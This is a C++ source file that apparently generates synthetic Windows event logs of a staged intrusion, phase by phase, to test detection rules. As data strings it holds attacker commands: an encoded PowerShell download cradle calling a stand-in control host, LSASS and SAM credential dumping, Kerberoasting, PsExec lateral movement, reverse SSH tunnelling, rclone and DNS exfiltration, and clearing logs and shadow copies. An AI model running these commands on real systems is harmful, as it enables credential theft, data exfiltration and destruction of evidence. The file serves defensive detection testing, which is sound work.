// The intrusion, step by step; samples/README.md tells it with the rules that find each step.
#include <array>

#include "generator/case.h"

namespace exhibit::samples {
namespace {

const std::string kCmd = "C:\\Windows\\System32\\cmd.exe";
const std::string kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const std::string kServices = "C:\\Windows\\System32\\services.exe";
const std::string kExplorer = "C:\\Windows\\explorer.exe";
const std::string kWord = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const std::string kHelper = "C:\\Users\\m.okafor\\AppData\\Roaming\\SyncHelper\\synchelper.exe";
const std::string kClerk = "NORTHLIGHT\\m.okafor";
const std::string kMediation = "NORTHLIGHT\\svc-mediation";
const std::string kSystemUser = "NT AUTHORITY\\SYSTEM";

constexpr const char* kControlAddress = "203.0.113.77";  // cdn-metrics.example.net
constexpr const char* kControlName = "cdn-metrics.example.net";
constexpr const char* kEntryAddress = "198.51.100.23";
constexpr const char* kDropAddress = "198.51.100.90";  // files.drop.example.org

// UTF-16LE, base64: IEX (New-Object Net.WebClient).DownloadString('http://cdn-metrics…/a')
constexpr const char* kEncodedCradle =
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBu"
    "AGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBtAGUAdAByAGkAYwBzAC4AZQB4AGEA"
    "bQBwAGwAZQAuAG4AZQB0AC8AYQAnACkA";

EvtxEvent run(const Host& host, std::int64_t time, const std::string& image,
              const std::string& command, const std::string& parent, const std::string& user,
              const std::string& integrity = "High", const std::string& original_name = "") {
  Process p;
  p.image = image;
  p.command = command;
  p.parent = parent;
  p.parent_command = "\"" + parent + "\"";
  p.user = user;
  p.integrity = integrity;
  // A tool that goes by another name keeps its own inside, and is not Microsoft's.
  p.original_name = original_name;
  if (!original_name.empty()) p.company = "-";
  return process_start(host, time, p);
}

std::string system32(const std::string& name) { return "C:\\Windows\\System32\\" + name; }

// 2 March: a letter about roaming invoices, a document with a macro, a helper that stays.
void add_phishing(Events& events) {
  const Host& host = kWorkstation;
  events.push_back(file_created(
      host, at(0, 8, 41, 12), "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
      "C:\\Users\\m.okafor\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
      "7QX2M0LD\\Roaming invoice Q1.docm",
      kClerk));
  events.push_back(run(host, at(0, 8, 43, 2), kPowerShell,
                       "powershell.exe -nop -w hidden -enc " + std::string(kEncodedCradle), kWord,
                       kClerk, "Medium"));
  events.push_back(script_block(
      host, at(0, 8, 43, 4),
      "IEX (New-Object Net.WebClient).DownloadString('http://cdn-metrics.example.net/a')", "",
      "m.okafor"));
  events.push_back(dns_query(host, at(0, 8, 43, 5), kPowerShell, kControlName,
                             std::string(kControlAddress) + ";", kClerk));
  events.push_back(
      connection(host, at(0, 8, 43, 6), kPowerShell, kClerk, kControlAddress, kControlName, 443));
  events.push_back(file_created(host, at(0, 8, 45, 30), kPowerShell, kHelper, kClerk));
  events.push_back(registry_value(host, at(0, 8, 46, 1), kPowerShell,
                                  "HKU\\" + sid_of("m.okafor") +
                                      "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\"
                                      "SyncHelper",
                                  kHelper, kClerk));
  Process helper;
  helper.image = kHelper;
  helper.command = "\"" + kHelper + "\"";
  helper.parent = kPowerShell;
  helper.parent_command = "powershell.exe -nop -w hidden -enc " + std::string(kEncodedCradle);
  helper.user = kClerk;
  helper.company = "-";
  helper.directory = "C:\\Users\\m.okafor\\AppData\\Roaming\\SyncHelper\\";
  events.push_back(process_start(host, at(0, 8, 46, 20), helper));
  // It calls home about every six hours for as long as the case lasts.
  Dice dice(77);
  for (int beat = 0; beat < 84; ++beat) {
    events.push_back(connection(host, at(0, 9 + beat * 6, 0, dice.between(0, 240)), kHelper, kClerk,
                                kControlAddress, kControlName, 443));
  }
}

// 3 March: where are we, and who is who.
void add_discovery(Events& events) {
  const Host& host = kWorkstation;
  events.push_back(
      run(host, at(1, 10, 2), kCmd, "cmd.exe /c whoami /all", kHelper, kClerk, "Medium"));
  events.push_back(
      run(host, at(1, 10, 2, 1), system32("whoami.exe"), "whoami /all", kCmd, kClerk, "Medium"));
  events.push_back(run(host, at(1, 10, 3), system32("net.exe"),
                       "net group \"Domain Admins\" /domain", kCmd, kClerk, "Medium"));
  events.push_back(run(host, at(1, 10, 4), system32("nltest.exe"),
                       "nltest -domain_trusts -all_trusts", kCmd, kClerk, "Medium"));
  events.push_back(
      script_block(host, at(1, 10, 9),
                   "$s = New-Object DirectoryServices.DirectorySearcher\r\n"
                   "$s.Filter = '(&(objectCategory=user)(servicePrincipalName=*))'\r\n$s.FindAll()",
                   "", "m.okafor"));
}

// 4 March: tickets of service accounts, to be broken at leisure.
void add_kerberoasting(Events& events) {
  events.push_back(script_block(kWorkstation, at(2, 14, 19, 50),
                                "Invoke-Kerberoast -OutputFormat hashcat | "
                                "Out-File $env:TEMP\\k.txt",
                                "", "m.okafor"));
  int second = 10;
  for (const char* service : {"svc-billing", "svc-mediation", "svc-sql"}) {
    events.push_back(
        service_ticket(at(2, 14, 20, second++), "m.okafor", service, 0x17, kWorkstation.address));
  }
  events.push_back(
      authentication_ticket(at(2, 14, 25), "svc-scanner", "0", 0x17, kWorkstation.address));
}

// 6 March: the broken password opens the jump host, which answers RDP from the Internet.
void add_jump_host(Events& events) {
  const Host& host = kJump;
  for (int i = 0; i < 14; ++i) {
    events.push_back(logon_failed(host, at(4, 1, 10, i * 3), 10,
                                  i % 2 == 0 ? "svc-mediation" : "svc-sql", kEntryAddress));
  }
  events.push_back(logon(host, at(4, 1, 12), 10, "svc-mediation", kEntryAddress, "JUMP01"));
  events.push_back(special_logon(host, at(4, 1, 12), "svc-mediation",
                                 "SeSecurityPrivilege\r\n\t\t\tSeDebugPrivilege"));
  events.push_back(run(host, at(4, 1, 16), kPowerShell,
                       "powershell.exe Add-MpPreference -ExclusionPath C:\\ProgramData\\Tel",
                       kExplorer, kMediation));
  events.push_back(defender(
      host, at(4, 1, 16, 2), 5007,
      {{"Old Value", text("")},
       {"New Value", text("HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\"
                          "C:\\ProgramData\\Tel = 0x0")}}));
  events.push_back(defender(host, at(4, 1, 18), 1116,
                            {{"Threat Name", text("HackTool:Win64/CredDump")},
                             {"Severity Name", text("High")},
                             {"Path", text("file:_C:\\Users\\svc-mediation\\Downloads\\cd64.exe")},
                             {"Detection User", text(kMediation)}}));
  events.push_back(defender(host, at(4, 1, 19), 5001, {}));
  events.push_back(registry_value(
      host, at(4, 1, 22), system32("reg.exe"),
      "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
      "DWORD (0x00000001)", kMediation));
  events.push_back(run(host, at(4, 1, 25), system32("rundll32.exe"),
                       "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 648 "
                       "C:\\ProgramData\\Tel\\lsass.dmp full",
                       kPowerShell, kMediation));
  events.push_back(process_access(
      host, at(4, 1, 25, 1), system32("rundll32.exe"), system32("lsass.exe"), "0x1fffff",
      "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\dbgcore.dll+6d5d"));
  events.push_back(file_created(host, at(4, 1, 25, 2), system32("rundll32.exe"),
                                "C:\\ProgramData\\Tel\\lsass.dmp", kMediation));
  events.push_back(run(host, at(4, 1, 31), system32("reg.exe"),
                       "reg save HKLM\\SAM C:\\ProgramData\\Tel\\s.hiv", kCmd, kMediation));
  events.push_back(run(host, at(4, 1, 33), system32("rundll32.exe"), system32("rundll32.exe"),
                       kPowerShell, kMediation));
}

// 9 and 10 March: from the jump host to the billing server by three ways.
void add_lateral_movement(Events& events) {
  const std::string psexec = "C:\\ProgramData\\Tel\\ps64.exe";
  events.push_back(run(kJump, at(7, 2, 5), psexec,
                       psexec + " -accepteula \\\\bill01 -u NORTHLIGHT\\svc-billing -s cmd.exe",
                       kCmd, kMediation, "High", "psexec.c"));
  events.push_back(explicit_credentials(kJump, at(7, 2, 5, 1), "svc-mediation", "svc-billing",
                                        "bill01", psexec));
  events.push_back(share_access(kBilling, at(7, 2, 5, 2), "svc-billing", kJump.address,
                                "\\\\*\\ADMIN$", "PSEXESVC.exe", "0x2"));
  events.push_back(service_installed(kBilling, at(7, 2, 5, 3), "PSEXESVC",
                                     "%SystemRoot%\\PSEXESVC.exe", "demand start", "LocalSystem"));
  events.push_back(security(kBilling, at(7, 2, 5, 3), 4697, 12289,
                            {{"SubjectUserSid", test::evtx_sid(sid_of("svc-billing"))},
                             {"SubjectUserName", text("svc-billing")},
                             {"SubjectDomainName", text("NORTHLIGHT")},
                             {"SubjectLogonId", test::evtx_hex64(0x91aa31)},
                             {"ServiceName", text("PSEXESVC")},
                             {"ServiceFileName", text("%SystemRoot%\\PSEXESVC.exe")},
                             {"ServiceType", test::evtx_hex32(0x10)},
                             {"ServiceStartType", number(3)},
                             {"ServiceAccount", text("LocalSystem")}}));
  events.push_back(pipe_event(kBilling, at(7, 2, 5, 4), true, "\\PSEXESVC",
                              "C:\\Windows\\PSEXESVC.exe", kSystemUser));
  events.push_back(run(kBilling, at(7, 2, 5, 5), "C:\\Windows\\PSEXESVC.exe",
                       "C:\\Windows\\PSEXESVC.exe", kServices, kSystemUser, "System"));
  events.push_back(run(kBilling, at(7, 2, 5, 6), kCmd, "\"cmd.exe\"", "C:\\Windows\\PSEXESVC.exe",
                       kSystemUser, "System"));
  events.push_back(run(kJump, at(8, 2, 40), system32("wbem\\WMIC.exe"),
                       "wmic /node:bill01 process call create \"cmd /c hostname\"", kCmd,
                       kMediation));
  events.push_back(run(kBilling, at(8, 2, 40, 1), kCmd, "cmd /c hostname",
                       system32("wbem\\WmiPrvSE.exe"), "NORTHLIGHT\\svc-billing"));
  events.push_back(logon(kBilling, at(8, 3, 2), 10, "svc-billing", kJump.address, "BILL01"));
}

// 11 and 12 March: three ways to stay on the billing server, and an account of their own.
void add_persistence(Events& events) {
  const std::string mirror = "C:\\ProgramData\\Tel\\mirror.exe";
  events.push_back(
      run(kBilling, at(9, 1, 50), system32("certutil.exe"),
          "certutil.exe -urlcache -split -f http://cdn-metrics.example.net/m " + mirror, kCmd,
          kSystemUser, "System"));
  events.push_back(service_installed(kBilling, at(9, 1, 55), "CDR Mirror Service", mirror,
                                     "auto start", "LocalSystem"));
  events.push_back(run(kBilling, at(9, 2, 1), system32("schtasks.exe"),
                       "schtasks /create /tn \"\\Billing\\CDR sync\" /sc hourly /ru SYSTEM /tr "
                       "\"powershell.exe -w hidden -File C:\\ProgramData\\Tel\\sync.ps1\"",
                       kCmd, kSystemUser, "System"));
  events.push_back(security(
      kBilling, at(9, 2, 1, 1), 4698, 12804,
      {{"SubjectUserSid", test::evtx_sid(sid_of("svc-billing"))},
       {"SubjectUserName", text("svc-billing")},
       {"SubjectDomainName", text("NORTHLIGHT")},
       {"SubjectLogonId", test::evtx_hex64(0x91aa31)},
       {"TaskName", text("\\Billing\\CDR sync")},
       {"TaskContent",
        text("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\">\r\n"
             "  <Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition>"
             "</TimeTrigger></Triggers>\r\n"
             "  <Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals>\r\n"
             "  <Actions><Exec><Command>powershell.exe</Command>\r\n"
             "  <Arguments>-w hidden -File C:\\ProgramData\\Tel\\sync.ps1</Arguments></Exec>"
             "</Actions>\r\n</Task>")}}));
  events.push_back(
      task_event(kBilling, at(9, 2, 1, 2), 106, "\\Billing\\CDR sync", "NORTHLIGHT\\svc-billing"));
  const std::string command = "cmd /c C:\\ProgramData\\Tel\\mirror.exe";
  events.push_back(wmi_consumer(kBilling, at(9, 2, 20), "\"TelConsumer\"", command, kSystemUser));
  events.push_back(wmi_subscription(
      kBilling, at(9, 2, 20, 1), "TelFilter",
      "CommandLineEventConsumer=\"TelConsumer\"; CommandLineTemplate = \"" + command + "\""));
  events.push_back(image_loaded(kBilling, at(9, 2, 31), mirror, "C:\\ProgramData\\Tel\\version.dll",
                                false, "-", "-"));

  events.push_back(process_start_4688(
      kDc, at(10, 0, 35), "adm.haddad", system32("ntdsutil.exe"),
      "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\Tel\\n\" q q", kCmd));
  events.push_back(
      security(kDc, at(10, 0, 50), 4662, 14080,
               {{"SubjectUserSid", test::evtx_sid(sid_of("adm.haddad"))},
                {"SubjectUserName", text("adm.haddad")},
                {"SubjectDomainName", text("NORTHLIGHT")},
                {"SubjectLogonId", test::evtx_hex64(0x77120)},
                {"ObjectServer", text("DS")},
                {"ObjectType", text("%{19195a5b-6da0-11d0-afd3-00c04fd930c9}")},
                {"ObjectName", text("%{c2f5c6a1-0f2e-4c2b-9a51-0e6ed3fca771}")},
                {"OperationType", text("Object Access")},
                {"AccessMask", test::evtx_hex32(0x100)},
                {"Properties", text("%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t"
                                    "{19195a5b-6da0-11d0-afd3-00c04fd930c9}")}}));
  events.push_back(account_created(at(10, 1, 2), "adm.haddad", "svc-hlrsync"));
  events.push_back(
      group_member(kDc, at(10, 1, 3), 4728, "adm.haddad", "svc-hlrsync", "Domain Admins", "-512"));
  events.push_back(group_member(kBilling, at(10, 1, 9), 4732, "adm.haddad", "svc-hlrsync",
                                "Administrators", "S-1-5-32-544"));
  events.push_back(special_logon(kDc, at(10, 1, 15), "svc-hlrsync",
                                 "SeSecurityPrivilege\r\n\t\t\tSeDebugPrivilege"));
}

// 16 to 20 March: the subscriber register and the call records, packed and carried off.
void add_collection(Events& events) {
  events.push_back(run(kJump, at(14, 1, 30), system32("netsh.exe"),
                       "netsh interface portproxy add v4tov4 listenport=8022 "
                       "connectaddress=192.0.2.50 connectport=22",
                       kCmd, "NORTHLIGHT\\svc-hlrsync"));
  events.push_back(run(kJump, at(14, 1, 36), "C:\\ProgramData\\Tel\\pl.exe",
                       "pl.exe -ssh -N -R 8022:192.0.2.50:22 tel@203.0.113.77", kCmd,
                       "NORTHLIGHT\\svc-hlrsync", "High", "Plink"));
  events.push_back(logon(kHlr, at(14, 1, 44), 10, "svc-hlrsync", kJump.address, "HLROAM01"));
  events.push_back(
      process_start_4688(kHlr, at(14, 1, 52), "svc-hlrsync", "C:\\HLR\\bin\\subexport.exe",
                         "subexport.exe --all --out C:\\ProgramData\\Tel\\subs.csv", kCmd));
  events.push_back(
      run(kBilling, at(15, 2, 10),
          "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
          "sqlcmd -S localhost -E -Q \"SELECT msisdn,imsi,cell,ts FROM cdr.usage\" -o "
          "C:\\ProgramData\\Tel\\u.csv",
          kCmd, "NORTHLIGHT\\svc-hlrsync"));
  events.push_back(run(kBilling, at(15, 3, 30), "C:\\Program Files\\7-Zip\\7z.exe",
                       "\"C:\\Program Files\\7-Zip\\7z.exe\" a -mhe=on -pTel!2026 "
                       "C:\\ProgramData\\Tel\\u.7z C:\\ProgramData\\Tel\\u.csv",
                       kCmd, "NORTHLIGHT\\svc-hlrsync"));
  events.push_back(run(kBilling, at(16, 1, 5), "C:\\ProgramData\\Tel\\rc.exe",
                       "rc.exe copy C:\\ProgramData\\Tel\\u.7z drop:in --config "
                       "C:\\ProgramData\\Tel\\rc.conf --transfers 2 --bwlimit 2M",
                       kCmd, "NORTHLIGHT\\svc-hlrsync", "High", "rclone.exe"));
  events.push_back(connection(kBilling, at(16, 1, 5, 2), "C:\\ProgramData\\Tel\\rc.exe",
                              "NORTHLIGHT\\svc-hlrsync", kDropAddress, "files.drop.example.org",
                              443));
  // What the proxy would not let out left through name resolution, a little each night.
  Dice dice(53);
  for (int i = 0; i < 12; ++i) {
    std::string label;
    while (label.size() < 48) label += "abcdefghijklmnopqrstuvwxyz234567"[dice.next() % 32];
    events.push_back(dns_query(kBilling, at(16 + i / 4, 2, i % 4 * 7),
                               "C:\\ProgramData\\Tel\\mirror.exe",
                               label + ".t.cdn-metrics.example.net", "-", kSystemUser));
  }
}

// 22 and 23 March: covering tracks.
void add_clean_up(Events& events) {
  events.push_back(file_time_changed(kBilling, at(20, 22, 50), kPowerShell,
                                     "C:\\ProgramData\\Tel\\mirror.exe", "2021-05-08 08:14:22.101",
                                     "2026-03-11 01:50:07.412"));
  events.push_back(security(kDc, at(20, 23, 5), 4719, 13568,
                            {{"SubjectUserSid", test::evtx_sid(sid_of("svc-hlrsync"))},
                             {"SubjectUserName", text("svc-hlrsync")},
                             {"SubjectDomainName", text("NORTHLIGHT")},
                             {"SubjectLogonId", test::evtx_hex64(0x88213)},
                             {"CategoryId", text("%%8276")},
                             {"SubcategoryId", text("%%13312")},
                             {"AuditPolicyChanges", text("%%8448, %%8450")}}));
  events.push_back(process_start_4688(kDc, at(20, 23, 9), "svc-hlrsync", system32("vssadmin.exe"),
                                      "vssadmin.exe delete shadows /all /quiet", kCmd));
  events.push_back(run(kJump, at(20, 23, 20), system32("wevtutil.exe"), "wevtutil.exe cl Security",
                       kCmd, "NORTHLIGHT\\svc-hlrsync"));
  events.push_back(log_cleared(kJump, at(20, 23, 20, 1), "svc-hlrsync"));
  events.push_back(
      system_log_cleared(kBilling, at(20, 23, 31), "svc-hlrsync", "Windows PowerShell"));
}

}  // namespace

void add_intrusion(Events& events) {
  add_phishing(events);
  add_discovery(events);
  add_kerberoasting(events);
  add_jump_host(events);
  add_lateral_movement(events);
  add_persistence(events);
  add_collection(events);
  add_clean_up(events);
}

}  // namespace exhibit::samples
